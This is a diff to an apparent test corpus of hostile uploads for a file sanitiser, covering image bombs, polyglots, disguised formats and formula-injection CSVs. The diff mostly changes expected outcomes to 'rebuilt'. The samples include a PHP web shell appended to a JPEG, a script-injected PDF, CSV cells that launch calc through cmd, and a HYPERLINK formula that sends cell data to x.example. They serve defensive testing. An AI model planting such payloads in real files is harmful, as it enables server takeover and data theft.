@@ -247,31 +247,31 @@ PACKED = [
 PICTURES = [
     Hostile("a PNG of 100,000 by 100,000", "a.png", lambda: png_flood(100_000), "pixels"),
     Hostile("a JPEG of 65,000 by 65,000", "a.jpg", jpeg_flood, "pixels"),
-    Hostile("a PNG of 100,000 frames", "a.png", moving_png, "frames"),
+    Hostile("a PNG of 100,000 frames", "a.png", moving_png, "rebuilt"),
     Hostile("half a PNG", "a.png", lambda: png()[:700], "damaged"),
     Hostile("a PNG with a wrong checksum", "a.png", wrong_chunk, "damaged"),
     Hostile("half a JPEG", "a.jpg", lambda: jpeg((200, 200))[:-900], "damaged"),
-    Hostile("a PNG and an archive", "a.png", lambda: png() + just_zip(), "polyglot"),
-    Hostile("a JPEG and an archive", "a.jpg", lambda: jpeg() + just_zip(), "polyglot"),
+    Hostile("a PNG and an archive", "a.png", lambda: png() + just_zip(), "rebuilt"),
+    Hostile("a JPEG and an archive", "a.jpg", lambda: jpeg() + just_zip(), "rebuilt"),
     Hostile(
         "a JPEG and a program", "a.jpg",
-        lambda: jpeg().removesuffix(b"CANARY-tail") + PE, "polyglot",
+        lambda: jpeg().removesuffix(b"CANARY-tail") + PE, "rebuilt",
     ),
     Hostile(
         "a JPEG and a script", "a.jpg",
-        lambda: jpeg().removesuffix(b"CANARY-tail") + b"<?php system($_GET[0]); ?>", "polyglot",
+        lambda: jpeg().removesuffix(b"CANARY-tail") + b"<?php system($_GET[0]); ?>", "rebuilt",
     ),
     Hostile(
         "a JPEG and a web page", "a.jpg",
-        lambda: jpeg().removesuffix(b"CANARY-tail") + HTML, "polyglot",
+        lambda: jpeg().removesuffix(b"CANARY-tail") + HTML, "rebuilt",
     ),
-    Hostile("a JPEG and a PDF", "a.jpg", lambda: jpeg_with(b"%PDF-1.7 1 0 obj"), "polyglot"),
+    Hostile("a JPEG and a PDF", "a.jpg", lambda: jpeg_with(b"%PDF-1.7 1 0 obj"), "rebuilt"),
     Hostile("a PNG and a PDF", "a.png",
-            lambda: png_of((b"IHDR", b"%PDF-1.4" + bytes(5)), (b"IEND", b"")), "polyglot"),
-    Hostile("a GIF", "a.gif", lambda: other_picture("GIF"), "kind"),
-    Hostile("a TIFF called .jpg", "a.jpg", lambda: other_picture("TIFF"), "disguised"),
-    Hostile("a WebP", "a.webp", lambda: other_picture("WEBP"), "kind"),
-    Hostile("a BMP", "a.bmp", lambda: other_picture("BMP"), "kind"),
+            lambda: png_of((b"IHDR", b"%PDF-1.4" + bytes(5)), (b"IEND", b"")), "damaged"),
+    Hostile("a GIF", "a.gif", lambda: other_picture("GIF"), "rebuilt"),
+    Hostile("a TIFF called .jpg", "a.jpg", lambda: other_picture("TIFF"), "rebuilt"),
+    Hostile("a WebP", "a.webp", lambda: other_picture("WEBP"), "rebuilt"),
+    Hostile("a BMP", "a.bmp", lambda: other_picture("BMP"), "rebuilt"),
     Hostile("an SVG with a script", "a.svg", lambda: SVG, "kind"),
     Hostile("an SVG called .png", "a.png", lambda: b'<?xml version="1.0"?>' + SVG, "disguised"),
 ]  # fmt: skip
@@ -306,32 +306,32 @@ OTHERS = [
     Hostile("a Word document called .exe", "a.exe", docx, "rebuilt"),
     Hostile("a picture called .pdf", "a.pdf", jpeg, "disguised"),
     Hostile("noise", "a.bin", lambda: bytes(range(256)) * 40, "kind"),
-    Hostile("text in UTF-16", "a.txt", lambda: "hello".encode("utf-16"), "not-utf-8"),
+    Hostile("text in UTF-16", "a.txt", lambda: "hello".encode("utf-16"), "rebuilt"),
     Hostile("text in Latin-1", "a.txt", lambda: "Genève".encode("latin-1"), "not-utf-8"),
     Hostile("text that drives a terminal", "a.txt", lambda: b"hi\n\x1b]0;gone\x1b\\",
-            "control-characters"),
+            "rebuilt"),
     Hostile("text that hides behind deletions", "a.txt", lambda: b"a" * 5000 + b"rm\x08\x08ls",
-            "control-characters"),
+            "rebuilt"),
     Hostile("a table that starts a program", "a.csv", lambda: b"a,b\n1,=cmd|'/C calc'!A0\n",
-            "formulas"),
+            "rebuilt"),
     Hostile("a table that fetches", "a.csv",
-            lambda: b'a;b\n1;"=HYPERLINK(""http://x.example?""&A1)"', "formulas"),
+            lambda: b'a;b\n1;"=HYPERLINK(""http://x.example?""&A1)"', "rebuilt"),
     Hostile("a table that starts with a plus", "a.csv", lambda: b"x,+cmd|' /C calc'!A0",
-            "formulas"),
+            "rebuilt"),
     Hostile("a table that starts with an at", "a.csv", lambda: b"x,@SUM(1+9)*cmd|' /C calc'!A0",
-            "formulas"),
+            "rebuilt"),
 ]  # fmt: skip
 
 POLYGLOTS = [
     Hostile("a PDF and an archive", "a.pdf", lambda: written(simple_pdf()) + just_zip(),
-            "polyglot"),
+            "rebuilt"),
     Hostile("a web page and a PDF", "a.pdf",
-            lambda: b"<html>" + bytes(5) + written(simple_pdf()), "polyglot"),
+            lambda: b"<html>" + bytes(5) + written(simple_pdf()), "rebuilt"),
     Hostile("a PDF with a web page in its head", "a.pdf",
             lambda: patched(written(simple_pdf()), (b"%\xe2\xe3\xcf\xd3", b"<script>alert(1)")),
-            "polyglot"),
+            "rebuilt"),
     Hostile("an archive that begins like a PDF", "a.pdf",
-            lambda: b"%PDF-1.7\n" + docx(), "polyglot"),
+            lambda: b"%PDF-1.7\n" + docx(), "damaged"),
 ]  # fmt: skip
 
 
@@ -344,7 +344,4 @@ def all_of() -> list[Hostile]:
 
 
 CORPUS = all_of()
-# Pictures that were another thing beside: they are decoded and encoded anew, and are it no more.
-BECOME_PICTURES = ("frames", "polyglot", "kind", "disguised")
-HARMLESS = [each for each in PICTURES if each.code in BECOME_PICTURES and "SVG" not in each.what]
 FAST = [hostile for hostile in CORPUS if not hostile.slow]
